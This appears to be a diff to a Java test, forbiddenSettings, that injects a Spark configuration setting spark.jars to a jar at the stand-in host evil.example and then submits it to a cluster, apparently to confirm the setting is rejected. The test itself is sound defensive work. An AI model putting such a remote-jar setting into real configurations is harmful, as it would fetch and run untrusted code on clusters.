@@ -220,8 +220,7 @@ class WaitingTest {
   void forbiddenSettings() {
     String forbidden =
         Serialization.asYaml(workspace.resource("forbidden"))
-            .replaceFirst(
-                "(?m)^spec:", "spec:\n  sparkConf: {spark.jars: http://evil.example/x.jar}");
+            .replace("sparkConf: {}", "sparkConf: {spark.jars: http://evil.example/x.jar}");
 
     Program.Result answer = Cluster.shared().kubectlWith(forbidden, "create", "-f", "-");
 
